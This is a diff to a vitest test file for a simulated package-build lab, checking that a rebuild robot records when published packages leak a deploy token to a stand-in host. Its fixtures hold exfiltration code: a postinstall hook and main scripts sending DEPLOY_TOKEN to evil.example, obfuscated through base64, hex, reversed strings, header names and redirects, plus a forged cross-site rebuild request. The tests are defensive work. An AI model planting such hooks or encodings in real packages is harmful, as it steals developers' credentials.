@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import type { Parcel } from '#contract/training/parcels.ts'
 import type { ShopEvents } from '#lab'
-import { putHostedPage } from '../../shop/fake-network/rented-hosts.ts'
+import { hostVisits, putHostedPage } from '../../shop/fake-network/rented-hosts.ts'
 import { publishParcel } from '../../shop/records/parcels.ts'
 import type { Shop } from '../../shop/shop.ts'
 import {
@@ -88,7 +88,7 @@ describe('the robot', () => {
     evilHost()
     publish({
       scripts: { postinstall: "require('https').get('https://evil.example/?' + process.env.DEPLOY_TOKEN)" },
-      main: "fetch('https://nobody.example/'); exports.crate = () => 'mine'",
+      main: "fetch('https://parcel-shed.example/'); exports.crate = () => 'mine'",
     })
     const { isBuilt, log } = await rebuild()
     expect(isBuilt).toBe(true)
@@ -98,7 +98,7 @@ describe('the robot', () => {
         scriptsRan: ['crate-utils', 'peel-icons'],
         requests: [
           { host: 'evil.example', isRented: true, holdsDeployToken: true },
-          { host: 'nobody.example', isRented: false, holdsDeployToken: false },
+          { host: 'parcel-shed.example', isRented: false, holdsDeployToken: false },
         ],
       },
     ])
@@ -124,6 +124,91 @@ describe('the robot', () => {
     })
     await rebuild()
     expect(events[0]?.requests[0]).toMatchObject({ host: 'evil.example', holdsDeployToken })
+  })
+
+  it('records requests where they arrive, and not those that nobody answers', async () => {
+    evilHost()
+    const location = 'https://evil.example/'
+    putHostedPage(shop, {
+      host: 'detour.example',
+      path: '/',
+      status: 307,
+      headers: { location },
+      body: '',
+    })
+    publish({
+      main: `const body = process.env.DEPLOY_TOKEN
+fetch('http://evil.example:81/?' + body).catch(() => {})
+fetch('https://nobody.example/?' + body).catch(() => {})
+fetch('https://evil.example./?' + body)
+fetch('https://detour.example/', { method: 'POST', body })
+exports.crate = () => ''`,
+    })
+    expect((await rebuild()).isBuilt).toBe(true)
+    expect(events[0]?.requests).toEqual(
+      ['evil.example', 'detour.example', 'evil.example'].map((host) => ({
+        host,
+        isRented: true,
+        holdsDeployToken: true,
+      })),
+    )
+    expect(hostVisits(shop, 'evil.example').map(({ url }) => url)).toEqual([
+      `https://evil.example/?${deployToken(shop)}`,
+      location,
+    ])
+  })
+
+  it.each(['', 'A', 'AB'])('knows the token in other forms, after “%s”', async (before) => {
+    evilHost()
+    const token = deployToken(shop)
+    const bytes = Buffer.from(`${before}${token}=B`)
+    const base64 = bytes.toString('base64')
+    const lines = base64.replaceAll(/.{20}/g, '$&\n')
+    const percent = bytes.toString('hex').replaceAll(/../g, '%$&')
+    const forms = [
+      percent,
+      bytes.toString('hex').toUpperCase(),
+      base64,
+      bytes.toString('base64url'),
+      encodeURIComponent(lines),
+    ]
+    const posted = [lines, bytes.toString('hex').replaceAll(/../g, '$& ')]
+    // The parcel spells the forms from parts, as one that holds the token whole counts as typed.
+    const backwards = JSON.stringify([forms, posted].map((list) => list.map((text) => [...text].reverse())))
+    publish({
+      main: `const [forms, posted] = ${backwards}.map((list) => list.map((text) => text.reverse().join('')))
+for (const form of forms) fetch('https://evil.example/?' + form)
+for (const body of posted) fetch('https://evil.example/', { method: 'POST', body })
+exports.crate = () => ''`,
+    })
+    expect((await rebuild()).log).toMatch(/\ndone\n$/)
+    const held = events[0]?.requests.map(({ holdsDeployToken }) => holdsDeployToken)
+    expect(held).toEqual([...forms, ...posted].map(() => true))
+  })
+
+  it('knows the token in names of headers and in credentials, and nothing that is less than it', async () => {
+    evilHost()
+    publish({
+      main: `const token = process.env.DEPLOY_TOKEN
+fetch('https://evil.example/', { headers: { ['x-' + token]: '1' } })
+fetch('https://' + token + '@evil.example/')
+fetch('https://evil.example/?' + token.slice(0, -1))
+exports.crate = () => ''`,
+    })
+    await rebuild()
+    expect(events[0]?.requests.map(({ holdsDeployToken }) => holdsDeployToken)).toEqual([true, true, false])
+  })
+
+  it('is not set to work by pages of other sites', async () => {
+    for (const headers of [{ origin: 'https://evil.example' }, { 'sec-fetch-site': 'cross-site' }]) {
+      expect((await visitor.post('/landing/rebuild', {}, { headers })).statusCode).toBe(403)
+    }
+    expect(events).toEqual([])
+    publish({
+      main: "fetch('http://localhost:3000/landing/rebuild', { method: 'POST' }); exports.crate = () => ''",
+    })
+    expect((await rebuild()).isBuilt).toBe(true)
+    expect(events).toHaveLength(1)
   })
 
   it('says in the log why a build failed, and never the token', async () => {
